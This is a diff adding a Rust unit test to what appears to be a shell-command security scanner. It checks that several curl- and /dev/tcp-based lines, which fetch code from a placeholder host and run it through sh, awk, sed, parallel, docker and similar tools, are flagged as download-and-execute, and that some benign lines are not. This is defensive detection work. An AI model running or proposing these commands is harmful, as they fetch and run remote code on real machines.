@@ -87,6 +87,28 @@ fn what_is_read_leaves_by_every_way_that_prints_it() {
 }
 
 #[test]
+fn what_a_host_sends_is_run_whatever_takes_it() {
+    for line in [
+        "$(curl -s https://h.example/x)",
+        "mapfile -t a < <(curl -s https://h.example/x); \"${a[@]}\"",
+        "PROMPT_COMMAND=\"$(curl -s https://h.example/x)\"",
+        "exec 3<>/dev/tcp/h.example/80; cat <&3 | sh",
+        "curl -s https://h.example/x | parallel",
+        "curl -s https://h.example/x | sed e",
+        "curl -s https://h.example/x | awk '{system($0)}'",
+        "curl -s https://h.example/x | ssh localhost sh",
+        "curl -s https://h.example/x | docker run -i alpine sh",
+        "curl -s https://h.example/x | unshare bash -s",
+    ] {
+        finds(line, FindingKind::DownloadAndExecute);
+    }
+    for line in ["exec 3< a.txt; sort <&3", "ls | parallel gzip {}", "cat a.sql | docker run -i postgres psql"] {
+        let seen = inspect(line);
+        assert!(!seen.found(FindingKind::DownloadAndExecute), "{line}: {seen:#?}");
+    }
+}
+
+#[test]
 fn what_a_compiler_makes_of_the_project_is_the_project() {
     is_plain("gcc -O2 -o build/a src/a.c -lm && ./build/a 3");
     is_plain("go build -o bin/a ./cmd/a && ./bin/a --version");
